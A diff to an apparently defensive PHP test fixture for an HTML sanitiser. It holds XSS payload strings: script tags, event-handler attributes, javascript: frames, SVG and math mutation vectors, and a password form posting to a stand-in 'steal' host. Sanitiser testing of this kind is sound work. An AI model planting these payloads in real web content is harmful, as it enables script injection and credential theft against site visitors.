@@ -3,9 +3,10 @@
  * What an account that was taken over would write. Whatever runs sets window.hostile; whatever is fetched comes from
  * elsewhere.example. Each body has healthy words before and after.
  */
-$bodies = array(
+$picture = wp_get_attachment_url( upload_drawn( 'images/gaza-480.webp', 'harmless.jpg' ) );
+$bodies  = array(
 	'script'     => '<script>window.hostile = "script"</script><script src="https://elsewhere.example/script.js"></script>',
-	'events'     => '<img src="https://elsewhere.example/x.png" onerror="window.hostile = \'onerror\'"><p onclick="window.hostile = 1" onmouseover="window.hostile = 1">Touch me.</p><details open ontoggle="window.hostile = 1"><summary>More</summary>Inside</details><video src="x" onerror="window.hostile = 1"></video>',
+	'events'     => '<img src="' . $picture . '" onload="window.hostile = \'onload\'" onerror="window.hostile = \'onerror\'"><p onclick="window.hostile = 1" onmouseover="window.hostile = 1">Touch me.</p><details open ontoggle="window.hostile = 1"><summary>More</summary>Inside</details><video src="x" onerror="window.hostile = 1"></video>',
 	'frames'     => '<iframe src="javascript:parent.hostile=1"></iframe><iframe srcdoc="<script>parent.hostile = 1</script>"></iframe><p>Words that texturize swallows.</p><object data="https://elsewhere.example/o.swf"></object><embed src="https://elsewhere.example/e.swf">',
 	'svg'        => '<svg xmlns="http://www.w3.org/2000/svg" onload="window.hostile = 1" width="10" height="10"><script>window.hostile = 1</script><image href="https://elsewhere.example/i.png"/><a xlink:href="javascript:window.hostile=1"><text y="9">x</text></a></svg><math><mtext><table><mglyph><style><img src=x onerror="window.hostile=1"></style></mglyph></table></mtext></math>',
 	'forms'      => '<form action="https://elsewhere.example/steal" id="app"><input name="attributes" value="typed"><input type="password" name="querySelector" autofocus onfocus="window.hostile = 1"><button formaction="javascript:window.hostile=1">Sign in</button><select><option>one</option></select><textarea>left</textarea></form>',
